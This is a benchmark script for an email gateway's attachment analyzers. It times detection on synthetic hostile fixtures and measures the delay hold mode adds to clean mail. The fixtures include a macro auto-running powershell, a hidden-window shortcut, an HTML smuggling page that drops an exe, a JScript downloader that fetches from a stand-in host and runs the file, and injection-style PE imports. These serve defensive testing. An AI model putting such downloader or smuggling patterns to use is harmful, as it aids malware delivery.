/**
 * `npm run bench -- --analysis`: the analyzers' speed per file type — files per second and p99
 * time — on the fixtures the tests write (a PE with imports, a Word file with a macro, a PDF with
 * JavaScript, a shortcut, an HTML smuggling page, a JScript downloader, an ISO with an exe), and
 * a 5 MB PE to show the cost of size; the same files through the worker-thread pool the
 * gateway uses; and what hold mode adds to the latency of clean mail.
 */

import { analyze } from '../src/inspect/engines/analysis/analyze.ts';
import { AnalysisPool } from '../src/inspect/engines/analysis/pool.ts';
import { identify } from '../src/inspect/file-type.ts';
import { iso, lnk, oleWithMacro, pdf, peFile } from '../test/helpers/analysis-fixtures.ts';
import { startGateway, startUpstream } from '../test/helpers/peers.ts';
import { BenchClient } from './latency.ts';

export interface AnalysisBenchResult {
  readonly type: string;
  readonly bytes: number;
  readonly filesPerSec: number;
  readonly p99Ms: number;
  /** Through the worker-thread pool (one thread), the gateway's way: transfer included. */
  readonly poolFilesPerSec?: number;
  readonly poolP99Ms?: number;
}

export interface HoldLatencyResult {
  readonly messages: number;
  /** MAIL FROM to the final 250, each message with a new (never seen) clean PDF attached. */
  readonly withoutAnalysis: { p50: number; p99: number };
  readonly withHold: { p50: number; p99: number };
}

export async function runAnalysisBench(runs: number): Promise<AnalysisBenchResult[]> {
  const big = Buffer.concat([peFile({ imports: ['WinExec'] }), Buffer.alloc(5 * 1024 * 1024, 0x90)]);
  const samples: Array<[string, Buffer]> = [
    ['pe', peFile({ imports: ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'] })],
    ['pe 5 MB', big],
    ['doc (macro)', oleWithMacro('Sub AutoOpen()\r\n Shell "powershell -c x"\r\nEnd Sub\r\n')],
    ['pdf (js)', pdf('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')],
    ['lnk', lnk('C:\\Windows\\System32\\cmd.exe', '/c powershell -w hidden')],
    ['html (smuggling)', Buffer.from(`<html><script>var d=atob("${'QUFB'.repeat(2000)}");var b=new Blob([new Uint8Array(1)]);var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="x.exe";</script></html>`)],
    ['js (downloader)', Buffer.from('var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","http://e/p",false);new ActiveXObject("WScript.Shell").Run("p.exe");')],
    ['iso (exe inside)', iso(['setup.exe'])],
  ];
  const results: AnalysisBenchResult[] = [];
  const pool = new AnalysisPool({ threads: 1, queue: 1000, timeoutMs: 60_000 });
  await pool.run({ bytes: Buffer.from('warm-up'), detectedType: 'js', name: null, flags: [] });
  process.stdout.write('\nanalysis speed per file: on the calling thread | through the worker pool:\n');
  for (const [label, bytes] of samples) {
    const id = await identify(bytes.subarray(0, 36 * 1024), bytes.subarray(-512), bytes);
    const input = { bytes, detectedType: id.type, name: null, flags: id.flags };
    const n = label.includes('5 MB') ? Math.max(5, Math.floor(runs / 50)) : runs;
    const times: number[] = [];
    for (let i = 0; i < n; i++) {
      const t0 = process.hrtime.bigint();
      analyze(input);
      times.push(Number(process.hrtime.bigint() - t0) / 1e6);
    }
    const pooled: number[] = [];
    for (let i = 0; i < n; i++) {
      const t0 = process.hrtime.bigint();
      await pool.run(input);
      pooled.push(Number(process.hrtime.bigint() - t0) / 1e6);
    }
    const inline = rate(times);
    const viaPool = rate(pooled);
    const r = { type: label, bytes: bytes.length, filesPerSec: inline.perSec, p99Ms: inline.p99, poolFilesPerSec: viaPool.perSec, poolP99Ms: viaPool.p99 };
    results.push(r);
    process.stdout.write(
      `  ${label.padEnd(18)} ${String(bytes.length).padStart(8)} bytes  ${r.filesPerSec.toFixed(0).padStart(7)} files/s  p99 ${r.p99Ms.toFixed(3)} ms` +
        `  | ${viaPool.perSec.toFixed(0).padStart(6)} files/s  p99 ${viaPool.p99.toFixed(3)} ms\n`,
    );
  }
  await pool.close();
  return results;
}

function rate(times: number[]): { perSec: number; p99: number } {
  const sorted = [...times].sort((a, b) => a - b);
  const total = sorted.reduce((a, b) => a + b, 0);
  return { perSec: sorted.length / (total / 1000), p99: sorted[Math.min(sorted.length - 1, Math.floor(sorted.length * 0.99))]! };
}

/**
 * What hold mode costs clean mail: one session through an in-process gateway to smtp-server,
 * each message with a PDF attachment never seen before (so the verdict store cannot answer),
 * with analysis off and with analysis on in hold mode (the default 2 s hold: every message
 * waits for its verdict).
 */
export async function runHoldLatencyBench(messages: number): Promise<HoldLatencyResult> {
  const up = await startUpstream();
  const measure = async (extra: string): Promise<{ p50: number; p99: number }> => {
    const gw = await startGateway({ upstreamPort: up.port, extra });
    try {
      const c = await BenchClient.open(gw.port);
      await c.hello();
      const times: number[] = [];
      for (let i = 0; i < messages + 20; i++) {
        const t = await c.send(messageWithPdf(`${extra.length}-${i}`));
        if (i >= 20) times.push(t); // the first 20 warm up (JIT, the worker thread)
        up.messages.length = 0;
      }
      c.close();
      times.sort((a, b) => a - b);
      return { p50: times[Math.floor(times.length / 2)]!, p99: times[Math.min(times.length - 1, Math.floor(times.length * 0.99))]! };
    } finally {
      await gw.stop();
    }
  };
  try {
    const withoutAnalysis = await measure('engines: { analysis: { enabled: false } }\n');
    const withHold = await measure('engines: { analysis: { hold: 2s } }\n');
    process.stdout.write(
      `\nhold mode on clean mail (a new 3 KB PDF in every message, one session, ${messages} messages):\n` +
        `  analysis off       p50 ${withoutAnalysis.p50.toFixed(2).padStart(6)} ms  p99 ${withoutAnalysis.p99.toFixed(2).padStart(6)} ms\n` +
        `  analysis, hold 2s  p50 ${withHold.p50.toFixed(2).padStart(6)} ms  p99 ${withHold.p99.toFixed(2).padStart(6)} ms` +
        `  (adds ${(withHold.p50 - withoutAnalysis.p50).toFixed(2)} / ${(withHold.p99 - withoutAnalysis.p99).toFixed(2)} ms)\n`,
    );
    return { messages, withoutAnalysis, withHold };
  } finally {
    await up.close();
  }
}

/** A message with a clean, unique PDF attachment (base64). */
function messageWithPdf(unique: string): Buffer {
  const file = pdf(`% ${unique}\n<< /Type /Catalog /Pages 2 0 R >>\n${'% filler line of a harmless document\n'.repeat(80)}`);
  const b64 = file.toString('base64').replace(/.{76}/g, '$&\r\n');
  return Buffer.from(
    'From: bench@example.org\r\nTo: sink@example.com\r\nSubject: report\r\nMIME-Version: 1.0\r\n' +
      'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\nContent-Type: text/plain\r\n\r\nthe report\r\n' +
      `--b1\r\nContent-Type: application/pdf; name="report.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64}\r\n--b1--\r\n`,
    'latin1',
  );
}
